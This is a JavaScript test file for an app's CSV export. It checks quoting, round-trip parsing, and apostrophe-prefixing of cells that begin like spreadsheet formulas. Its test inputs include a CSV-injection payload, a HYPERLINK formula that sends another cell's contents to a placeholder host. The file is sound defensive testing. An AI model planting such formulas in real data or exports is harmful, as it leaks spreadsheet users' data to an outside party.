/** Tables as CSV: what is written is read back, and no cell begins a formula. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { resultsCsv } from '../../web/views/learn/study/results_state.ts';
import { csvText, fieldsOf } from '../../web/shared/text/csv.ts';
import { oneOf, seeded } from './seeded.mjs';

test('CSV keeps what would break its lines in quotes', () => {
  const rows = [
    ['x,y', 'say "no"\nnow'],
    [null, 2],
  ];
  assert.equal(csvText(['a', 'b'], rows), 'a,b\n"x,y","say ""no""\nnow"\n,2\n');
});

test('a text that begins like a formula gets an apostrophe, and a number none', () => {
  // Those of OWASP's page on CSV injection; the last four are of East Asian keyboards.
  const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
  for (const text of ['=HYPERLINK("//a.b/"&D2)', "'=1", "''+a", ...starts.map((start) => `${start}1+2`)]) {
    const [, row] = [csvText(['a'], [[text]]).slice(0, 2), csvText(['a'], [[text]]).slice(2, -1)];
    assert.match(row, /^"?'/, text);
  }
  assert.equal(csvText(['a', 'b', 'c'], [[-0.5, '-12', 'a=b']]), 'a,b,c\n-0.5,-12,a=b\n');
});

test('fields of any signs are read back as they were', () => {
  const random = seeded(4);
  const signs = [...'ab=+-@\'",;', '\t', '7'];
  for (let round = 0; round < 2000; round += 1) {
    const fields = Array.from({ length: 3 }, () =>
      Array.from({ length: 4 }, () => oneOf(random, signs))
        .join('')
        .trim(),
    );
    const line = csvText([], [fields]).slice(1, -1);
    assert.deepEqual(fieldsOf(line, ','), fields, line);
  }
});

test('a student’s name that is a formula is text in the teacher’s table', () => {
  const name = '=HYPERLINK("//a.b/"&D2)';
  const result = { outcome: 'solved', seconds: 60, pauses: 0, away: 0 };
  const study = { isBalanced: false, puzzles: [{ name: '', level: null, clues: '1'.padEnd(81, '.') }] };
  const handed = { name, person: name, number: 1, session: 1, results: [result], exercises: [] };
  const collected = new Map([[name, { handed }]]);
  const none = { callCount: null, score: null, er: null };
  const [, line] = resultsCsv(/** @type {any} */ (study), /** @type {any} */ (collected), () => none).split(
    '\n',
  );
  assert.ok(line.startsWith(`"'=HYPERLINK(`), line);
});
